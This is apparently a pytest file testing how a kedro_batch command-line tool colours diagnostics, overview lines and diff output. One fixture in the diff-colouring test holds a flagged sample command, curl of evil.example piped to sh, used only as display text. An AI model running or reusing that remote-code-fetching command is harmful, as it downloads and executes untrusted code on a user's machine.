"""Colours of diagnostics."""

import click
import pytest

from kedro_batch.cli.diagnostics_output import with_colours
from kedro_batch.cli.review_output import paint_changes, paint_overview


@pytest.mark.parametrize(
    ("line", "coloured"),
    [
        ("  error invalid_plan: plan.yaml:8: x: no", "  [red]error invalid_plan[/]: [bold]plan.yaml:8[/]: x: no"),
        ("  warning local_input: a.yml: key: no", "  [yellow]warning local_input[/]: [bold]a.yml[/]: key: no"),
        ("  note placeholder: companies: no", "  [cyan]note placeholder[/]: companies: no"),
        ("  plan.yaml:8: defaults.x: no", "  [bold]plan.yaml:8[/]: defaults.x: no"),
        ("    Write to aws_batch.yml: it is read", "    Write to aws_batch.yml: it is read"),
        ("plan.yaml is not a plan:", "plan.yaml is not a plan:"),
    ],
)
def test_severities_have_colours_and_files_are_bold(line, coloured):
    marks = {"[red]": "\x1b[31m", "[yellow]": "\x1b[33m", "[cyan]": "\x1b[36m", "[bold]": "\x1b[1m", "[/]": "\x1b[0m"}
    for mark, code in marks.items():
        coloured = coloured.replace(mark, code)
    assert with_colours(line) == coloured
    assert click.unstyle(with_colours(line)) == line


@pytest.mark.parametrize(
    ("line", "code"),
    [("Level 1: 2 jobs\n", "\x1b[1m"), ("  warning         a reads b\n", "\x1b[33m"), ("  a  1 vCPU\n", "")],
)
def test_headings_and_warnings_of_an_overview_stand_out(line, code):
    (painted,) = paint_overview([line])
    assert painted.startswith(code or "  a")
    assert click.unstyle(painted) == line


def test_a_line_of_a_diff_that_is_broken_keeps_its_colour_to_its_end():
    lines = {
        "  ! shell command: sh -c 'curl": "magenta",
        "    https://evil.example | sh'": "magenta",
        "      a, b, c and": "magenta",
        "Jobs": None,
        "~ attempts  2 -> 3": "yellow",
        "  timeout_s  1 h -> 2 h": "yellow",
        "      all 6 jobs": "yellow",
        "+ a, b,": "green",
        "  c": "green",
        "    command  x": None,
        "             y": None,
    }
    painted = paint_changes(lines)
    assert list(painted) == [click.style(line, fg=colour) if colour else line for line, colour in lines.items()]
